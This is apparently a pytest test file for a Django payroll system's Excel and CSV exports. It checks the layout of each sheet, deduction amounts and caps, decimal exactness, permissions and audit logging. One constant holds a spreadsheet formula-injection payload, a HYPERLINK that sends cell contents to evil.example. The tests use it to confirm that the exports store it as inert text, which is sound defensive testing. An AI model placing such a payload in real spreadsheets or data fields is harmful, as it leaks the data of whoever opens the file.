"""The workbook and the CSV of a closed month, read back cell by cell."""

import csv
import io
from datetime import date
from decimal import Decimal as D

import pytest
from django.core.exceptions import ValidationError
from openpyxl import load_workbook

from audit.models import AuditEntry
from conftest import make_user
from payroll.exports import MONEY_FORMAT, payroll_summary_csv, payroll_workbook
from payroll.services import EXPORT_OPEN_MONTH, payroll_export, payroll_period_get_or_create
from payroll.tests.factories import award, employee, penalty
from payroll.tests.test_close import FEB, JAN, close
from staff.tests.factories import DepartmentFactory

pytestmark = pytest.mark.django_db

INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


@pytest.fixture
def clerk(db):
    return make_user("payroll_clerk")


@pytest.fixture
def month(clerk):
    """January: one capped employee with a carry-over, one plain, one with an injection
    name, a supervisor's joint liability, a department liability and a fund reward."""
    dept = DepartmentFactory(name="营业大厅", code="HALL")
    capped = employee(employee_no="E001", name="欧阳娜", wage="3000.00", department=dept)
    plain = employee(employee_no="E002", name="李雷", wage="4000.00", department=dept)
    evil = employee(employee_no="E003", name=INJECTION, wage="3000.00", department=dept)
    penalty(capped, "1000.00", on=date(2026, 1, 10))
    penalty(capped, "137.93", on=date(2026, 1, 12), kind="absence_cut")
    penalty(plain, "200.00", on=date(2026, 1, 5), kind="compensation")
    award(plain, "500.00", on=date(2026, 1, 20), department_amount="200.00")
    penalty(plain, "400.00", on=date(2026, 1, 8), party="supervisor", violator=evil)
    penalty(None, "1000.00", on=date(2026, 1, 8), party="department", violator=evil)
    penalty(evil, "50.00", on=date(2026, 1, 8), kind="bonus_reduction")
    return close(JAN, clerk)


def _book(data: bytes):
    return load_workbook(io.BytesIO(data))


def _values(sheet):
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def test_the_workbook_has_four_sheets_with_frozen_bold_headers(month):
    book = _book(payroll_workbook(period=month))
    assert book.sheetnames == ["汇总", "明细", "部门", "结转"]
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A2"
        assert all(cell.font.bold for cell in sheet[1])
        assert sheet.column_dimensions["A"].width >= 10
    header = [cell.value for cell in book["汇总"][1]]
    assert header[:12] == [
        "工号",
        "姓名",
        "部门",
        "罚款",
        "赔偿",
        "扣减绩效/奖金",
        "缺勤扣薪",
        "奖励",
        "实扣合计",
        "结转下月",
        "本月净额",
        "说明",
    ]
    assert book["汇总"].column_dimensions["L"].width == 60


def test_the_summary_sheet_cell_by_cell(month):
    sheet = _book(payroll_workbook(period=month))["汇总"]
    rows = _values(sheet)
    assert [row[0] for row in rows[1:]] == ["E001", "E002", "E003", "合计"]
    e001 = rows[1]
    assert e001[:11] == [
        "E001",
        "欧阳娜",
        "营业大厅",
        1000,
        0,
        0,
        137.93,
        0,
        737.93,
        400,
        -737.93,
    ]
    assert e001[11] == "本月应扣 ¥1,000,按《工资支付暂行规定》第十六条上限实扣 ¥600,结转下月 ¥400"
    e002 = rows[2]
    # 200 compensation + 400 as the supervisor (joint liability), 500 reward.
    assert e002[3:11] == [400, 200, 0, 0, 500, 600, 0, -100]
    assert e002[11] is None  # nothing capped: no note
    totals = rows[4]
    assert totals[3:11] == [1400, 200, 50, 137.93, 500, 1387.93, 400, -887.93]
    for cell in sheet[2][3:11]:
        assert cell.number_format == MONEY_FORMAT and cell.data_type == "n"
    assert all(cell.font.bold for cell in sheet[5] if cell.value is not None)


def test_text_that_looks_like_a_formula_is_stored_as_text(month):
    data = payroll_workbook(period=month)
    sheet = _book(data)["汇总"]
    name = sheet["B4"]
    assert name.value == INJECTION
    assert name.data_type == "s" and name.quotePrefix
    assert b"<f>" not in data  # no formula anywhere in the package
    detail = _book(data)["明细"]
    names = [row[1].value for row in detail.iter_rows(min_row=2) if row[1].value]
    assert INJECTION in names


def test_the_detail_sheet_lists_every_item_with_joint_liability_marked(month):
    sheet = _book(payroll_workbook(period=month))["明细"]
    rows = _values(sheet)
    assert rows[0] == [
        "工号",
        "姓名",
        "来源",
        "类别",
        "通知书编号",
        "日期",
        "规章条款",
        "金额",
        "本月实扣/实发",
        "结转下月",
        "撤销结转",
        "退还",
        "状态",
        "备注",
    ]
    body = rows[1:-1]
    assert [(r[0], r[3], r[7]) for r in body] == [
        ("E001", "罚款", 1000),
        ("E001", "缺勤扣薪", 137.93),
        ("E002", "赔偿", 200),
        ("E002", "罚款", 400),
        ("E002", "奖励", 500),
        ("E003", "扣减绩效/奖金", 50),
    ]
    fine = body[0]
    assert fine[5].date() == date(2026, 1, 10)
    assert fine[6] == "全员优质服务规范与处罚细则 第14条 不准吵架谩骂酗酒"
    assert (fine[8], fine[9]) == (600, 400)
    assert body[3][13].startswith("连带责任")
    assert sheet["F2"].number_format == "yyyy-mm-dd"
    assert sheet["H2"].number_format == MONEY_FORMAT
    assert rows[-1][0] == "合计" and rows[-1][7] == 2287.93


def test_department_and_carry_over_sheets(month):
    book = _book(payroll_workbook(period=month))
    dept = _values(book["部门"])
    assert [(r[0], r[3], r[7], r[8]) for r in dept[1:-1]] == [
        ("HALL", "罚款", 1000, None),
        ("HALL", "奖励", None, 200),
    ]
    assert dept[-1][7:9] == [1000, 200]
    carry = _values(book["结转"])
    assert carry[1][:3] == ["E001", "欧阳娜", "营业大厅"]
    assert carry[1][7:10] == [1000, 600, 400]
    assert carry[-1][0] == "合计" and carry[-1][9] == 400


def test_exporting_the_same_month_twice_gives_the_same_values(month):
    first, second = _book(payroll_workbook(period=month)), _book(payroll_workbook(period=month))
    for name in first.sheetnames:
        assert _values(first[name]) == _values(second[name])


def test_exporting_twice_gives_the_same_bytes(month):
    assert payroll_workbook(period=month) == payroll_workbook(period=month)
    assert payroll_summary_csv(period=month) == payroll_summary_csv(period=month)


def test_money_is_exact_decimal_in_the_file(month):
    data = payroll_workbook(period=month)
    with io.BytesIO(data) as handle:
        import zipfile

        xml = zipfile.ZipFile(handle).read("xl/worksheets/sheet1.xml").decode()
    assert "<v>737.93</v>" in xml and "<v>-737.93</v>" in xml


def test_the_summary_csv_is_utf8_with_a_bom_and_safe_text(month):
    data = payroll_summary_csv(period=month)
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0][:3] == ["工号", "姓名", "部门"]
    assert rows[1][:11] == [
        "E001",
        "欧阳娜",
        "营业大厅",
        "1000.00",
        "0.00",
        "0.00",
        "137.93",
        "0.00",
        "737.93",
        "400.00",
        "-737.93",
    ]
    assert rows[3][1] == "'" + INJECTION


def test_export_needs_a_closed_month_and_the_permission_and_is_audited(month, clerk):
    data = payroll_export(period=month, by=clerk)
    assert data.startswith(b"PK")
    assert AuditEntry.objects.filter(action="export", object_id=str(month.pk)).count() == 1
    for role in ("hr_officer", "auditor", "gm"):
        with pytest.raises(ValidationError):
            payroll_export(period=month, by=make_user(role))
    february = payroll_period_get_or_create(month=FEB)
    with pytest.raises(ValidationError) as exc:
        payroll_export(period=february, by=clerk)
    assert exc.value.messages == [str(EXPORT_OPEN_MONTH) % {"month": "2026-02"}]


def test_an_empty_month_exports_headers_and_zero_totals(clerk):
    period = close(JAN, clerk)
    book = _book(payroll_workbook(period=period))
    rows = _values(book["汇总"])
    assert len(rows) == 2 and rows[1][0] == "合计" and rows[1][3] == 0
    assert D("0") == D(str(rows[1][8]))
